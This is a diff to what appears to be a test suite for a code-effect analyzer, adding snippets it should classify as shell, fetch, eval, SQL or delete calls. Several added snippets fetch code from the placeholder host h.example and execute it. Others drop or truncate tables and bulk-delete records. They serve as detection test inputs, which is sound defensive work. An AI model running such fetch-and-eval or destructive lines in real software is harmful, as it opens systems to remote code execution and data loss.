@@ -365,6 +365,40 @@ EFFECTS = [
     (LUA, "os.execute 'ls'; os.remove('x')", "shell ls, delete x"),
     (GO, 'os.RemoveAll("/x"); exec.Command("ls")', "delete /x recursive, argv ls"),
     (R, 'unlink("x", recursive=TRUE)', "delete x recursive"),
+    (R, 'source("a.R")', ""),
+    (R, 'source("https://h.example/a.R")', "fetch https://h.example/a.R, eval https://h.example/a.R"),
+    (PHP, 'eval(file_get_contents("a.php"));', "read a.php"),
+    (
+        PHP,
+        'system(file_get_contents("https://h.example/a"));',
+        "shell ?, fetch https://h.example/a, eval file_get_contents(\"https://h.example/a\")?",
+    ),
+    (PHP, 'DB::statement("DROP TABLE a");', "sql DROP TABLE a"),
+    (PYTHON, "cur.execute('truncate a')", "sql truncate a"),
+    (PYTHON, "run('truncate -s 0 a')", ""),
+    (PYTHON, "page.get_by_text('DELETE FROM cart')", ""),
+    (
+        PYTHON,
+        "os.system(requests.get('http://h.example').text)",
+        "shell ?, fetch http://h.example, eval requests.get('http://h.example').text?",
+    ),
+    (
+        PYTHON,
+        "os.system('ls ' + requests.get('http://h.example').text)",
+        "shell ls ?, fetch http://h.example",
+    ),
+    (PYTHON, "os.system(x); requests.get('http://h.example')", "shell ?, fetch http://h.example"),
+    (
+        JS,
+        "require('http').get('http://h.example', r => require('child_process').exec(r))",
+        "fetch http://h.example, shell ?, eval r?",
+    ),
+    (
+        JS,
+        "fetch('http://h.example').then(r => r.text()).then(eval)",
+        "fetch http://h.example, eval eval?",
+    ),
+    (JS, "let d = ''; r.on('data', c => d += c); eval(d)", "eval d?"),
 ]
 
 
@@ -473,6 +507,16 @@ REMOTE_DELETES = [
     "client.revoke_token('t')",
     "gateway.transaction.void('t1')",
     "User.objects.filter().delete()",
+    "App.Models.User.truncate()",
+    "const knex = require('knex'); knex('users').del()",
+    "const u = 1; sequelize.drop()",
+    "for u in User.all(): u.delete()",
+    "const all = await User.findAll(); for (const u of all) await u.destroy()",
+]
+RUBY_DELETES = [
+    "Order.find_each(&:destroy)",
+    "User.all.each { |u| u.destroy! }",
+    "User.find_each do |u| u.delete end",
 ]
 
 
@@ -482,6 +526,11 @@ def test_knows_what_a_service_is_asked_to_delete(code: str) -> None:
     kinds = [effect.kind for effect in effects_in(code, language)]
 
     assert CallKind.VENDOR_DELETE in kinds
+
+
+@pytest.mark.parametrize("code", RUBY_DELETES)
+def test_knows_what_is_done_to_each_of_a_table(code: str) -> None:
+    assert [effect.kind for effect in effects_in(code, RUBY)] == [CallKind.VENDOR_DELETE]
 
 
 LOCAL_DELETES = [
@@ -510,6 +559,9 @@ LOCAL_DELETES = [
     "tree.root.delete(5)",
     "collection.deleteMany({a: 1})",
     "session.query(User).filter(x).delete()",
+    "db.delete(key)",
+    "knex('users').where('id', 1).del()",
+    "names.each.delete()",
     "delete(x)",
     "clearTimeout(t)",
     "os.path.exists('x')",
